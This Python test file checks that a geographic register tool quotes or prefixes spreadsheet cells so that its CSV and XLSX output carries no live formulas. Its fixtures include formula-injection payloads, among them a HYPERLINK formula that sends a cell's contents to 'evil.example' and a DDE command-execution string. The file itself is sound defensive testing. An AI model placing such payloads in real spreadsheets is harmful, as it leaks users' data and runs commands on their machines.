"""No table the tool writes carries a formula (OWASP CSV injection): write_table's CSV quotes every text that starts
with = + - @, a tab or a CR; its XLSX makes them string cells with Excel's quote prefix; numbers stay numbers; the
rejected rows of a register and the cells convert writes are covered too."""

import csv
import io
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from geo.place.convert import convert_file
from geo.read.files import read_rows
from geo.read.register import read_register
from geo.read.report import Report
from geo.write.tables import FORMULA_STARTS, csv_cell, formula_mask, table_bytes, write_table

ATTACKS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0"]
PLAIN = ["甲园", "B&B", "a=b", "1-2", " =1", "'abc", "it's"]
#: Texts that start as a formula past their leading quotes: one more quote in CSV, as the reader removes one.
QUOTED = ["'=already quoted", "''+x"]


def frame():
    """One text column of attacks and plain texts, a mixed column (numbers, None, texts) and numeric columns."""
    texts = ATTACKS + PLAIN + QUOTED
    return pd.DataFrame({
        "text": texts,
        "mixed": [-1.5, None, "=1", 7, "-x", *[""] * (len(texts) - 5)],
        "negative": [-(1 + i / 4) for i in range(len(texts))],  # exact in any format
        "count": pd.array(range(-len(texts), 0), dtype="Int64"),
        "flag": [True, False] * (len(texts) // 2) + [True] * (len(texts) % 2),
        "=header": ["h"] * len(texts),
    })


def sheet_xml(path):
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


# ---------------------------------------------------------------- the rule

def test_formula_mask_flags_texts_that_start_as_formulas_only():
    column = pd.Series([*ATTACKS, *PLAIN, -1.5, 3, None, np.nan, True], dtype=object)
    assert formula_mask(column).tolist() == [True] * len(ATTACKS) + [False] * (len(PLAIN) + 5)
    assert formula_mask(pd.Series([-1.0, -2.0])).tolist() == [False, False]  # a negative number is a number
    assert formula_mask(pd.Series(["=1", pd.NA], dtype="string")).tolist() == [True, False]
    assert formula_mask(pd.Series([], dtype=object)).tolist() == []
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


# ---------------------------------------------------------------- CSV

def test_csv_quotes_every_formula_text_and_keeps_numbers(tmp_path):
    data = write_table(frame(), tmp_path / "t.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text", "mixed", "negative", "count", "flag", "'=header"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in ATTACKS] + PLAIN + [
        "''=already quoted", "'''+x"]
    assert [row[1] for row in rows[1:6]] == ["-1.5", "", "'=1", "7", "'-x"]
    assert [row[2] for row in rows[1:]] == [repr(-(1 + i / 4)) for i in range(len(rows) - 1)]
    assert [row[3] for row in rows[1:]] == [str(n) for n in range(-(len(rows) - 1), 0)]
    # the cells are those csv_cell writes, the one rule of the write-back too
    assert [row[0] for row in rows[1:]] == [csv_cell(text) for text in ATTACKS + PLAIN + QUOTED]


def test_csv_reads_back_as_the_same_text(tmp_path):
    texts = pd.DataFrame({"名称": [t for t in ATTACKS + PLAIN + QUOTED if "\r" not in t], "n": -1})
    path = write_table(texts, tmp_path / "t.csv")
    rows = [cells for _, cells in read_rows(path).rows]  # the register reader removes the one quote
    assert rows == [["名称", "n"], *[[t, "-1"] for t in texts["名称"]]]


def test_csv_bytes_of_a_small_frame():
    small = pd.DataFrame({"name": ["=1+1", "ok"], "lon": [-120.5, 121.0]})
    assert table_bytes(small, "x.csv") == "\ufeffname,lon\n'=1+1,-120.5\nok,121.0\n".encode("utf-8")


def test_csv_with_a_carriage_return_in_a_text_is_quoted_with_crlf_line_ends():
    cr = pd.DataFrame({"name": ["\r=1", "a\rb"], "n": [1, 2]})
    data = table_bytes(cr, "x.csv")
    assert data == "\ufeffname,n\r\n\"'\r=1\",1\r\n\"a\rb\",2\r\n".encode("utf-8")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) == [["name", "n"], ["'\r=1", "1"],
                                                                                   ["a\rb", "2"]]


def test_csv_frame_with_duplicate_column_names_and_index(tmp_path):
    odd = pd.DataFrame([["=a", "=b"], ["c", "+d"]], columns=["x", "x"], index=[5, 5])
    assert write_table(odd, tmp_path / "d.csv").read_bytes() == "\ufeffx,x\n'=a,'=b\nc,'+d\n".encode("utf-8")
    assert odd.iloc[0].tolist() == ["=a", "=b"]  # the caller's frame is not changed


# ---------------------------------------------------------------- XLSX

def test_xlsx_writes_formula_texts_as_quoted_string_cells(tmp_path):
    path = write_table(frame(), tmp_path / "t.xlsx")
    assert "<f>" not in sheet_xml(path) and "<f " not in sheet_xml(path)  # not one formula in the file
    sheet = openpyxl.load_workbook(path).active
    header = sheet[1]
    assert [c.value for c in header] == ["text", "mixed", "negative", "count", "flag", "=header"]
    assert (header[5].data_type, header[5].quotePrefix) == ("s", True)
    texts = [sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)]
    # read back as the same text (XML reads a raw CR as LF: openpyxl's limit, not a formula)
    assert [c.value for c in texts] == [t.replace("\r", "\n") for t in ATTACKS] + PLAIN + QUOTED
    assert [(c.data_type, c.quotePrefix) for c in texts] == ([("s", True)] * len(ATTACKS)
                                                               + [("s", False)] * len(PLAIN + QUOTED))
    mixed = [sheet.cell(row=r, column=2) for r in (2, 4, 5, 6)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in mixed] == [
        (-1.5, "n", False), ("=1", "s", True), (7, "n", False), ("-x", "s", True)]
    assert sheet.cell(row=3, column=2).value is None
    negative = [sheet.cell(row=r, column=3) for r in range(2, sheet.max_row + 1)]
    assert [(c.value, c.data_type) for c in negative] == [(-(1 + i / 4), "n") for i in range(len(negative))]
    assert sheet.cell(row=2, column=4).value == -len(texts) and sheet.cell(row=2, column=5).value is True


def test_xlsx_of_a_frame_without_formulas_is_unchanged_by_the_rule(tmp_path):
    plain = pd.DataFrame({"name": PLAIN, "n": range(len(PLAIN))})
    sheet = openpyxl.load_workbook(write_table(plain, tmp_path / "p.xlsx")).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [[t, n] for n, t in enumerate(PLAIN)]
    assert not any(c.quotePrefix for row in sheet.iter_rows() for c in row)


# ---------------------------------------------------------------- the rejected rows of a register

@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejected_rows_never_carry_a_formula(tmp_path, suffix):
    report = Report(rejected=[{"row": 2, "column": "总投资（亿元）", "value": "=1+1", "reason": "not a number"},
                              {"row": 3, "column": "经度", "value": "-121.47", "reason": "outside"}],
                    names={2: '=HYPERLINK("http://x","y")', 3: "@甲园"})
    path = write_table(report.rejected_frame(), tmp_path / f"map.rejected{suffix}")
    if suffix == ".csv":
        assert path.read_bytes().decode("utf-8-sig") == (
            "row,name,column,value,reason\n"
            "2,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",总投资（亿元）,'=1+1,not a number\n"
            "3,'@甲园,经度,'-121.47,outside\n")
    else:
        assert "<f>" not in sheet_xml(path)
        rows = [[c.value for c in row] for row in openpyxl.load_workbook(path).active.iter_rows()]
        assert rows[1:] == [[2, '=HYPERLINK("http://x","y")', "总投资（亿元）", "=1+1", "not a number"],
                            [3, "@甲园", "经度", "-121.47", "outside"]]


# ---------------------------------------------------------------- convert writes numbers and datum codes only

def test_convert_writes_numbers_and_datum_codes_only(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["名称", "经度", "纬度"])
    book.active.append(["甲园", 120.98, 31.38])
    book.active.append(["乙园", "121.0998", "31.3006"])
    book.save(tmp_path / "in.xlsx")
    convert_file(tmp_path / "in.xlsx", tmp_path / "out.xlsx", from_datum="gcj02", to_datum="wgs84")
    assert "<f>" not in sheet_xml(tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    written = [sheet.cell(row=r, column=c) for r in (2, 3) for c in (2, 3, 4)]
    assert [c.data_type for c in written] == ["n", "n", "s"] * 2
    assert [c.value for c in written][2::3] == ["wgs84", "wgs84"]
    assert sheet.cell(row=1, column=4).value == "坐标系"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_register_written_by_the_tool_reads_back_with_the_same_texts(tmp_path, suffix):
    names = ["\t=tab", '=HYPERLINK("http://evil.example","click")', "+1", "@sum", "-2 km", "'=quoted"]
    path = write_table(pd.DataFrame({"园区名称": names, "所在镇": "陆家镇"}), tmp_path / f"r{suffix}")
    register = read_register(path)
    assert register.table["name"].tolist() == names and register.report.rejected == []
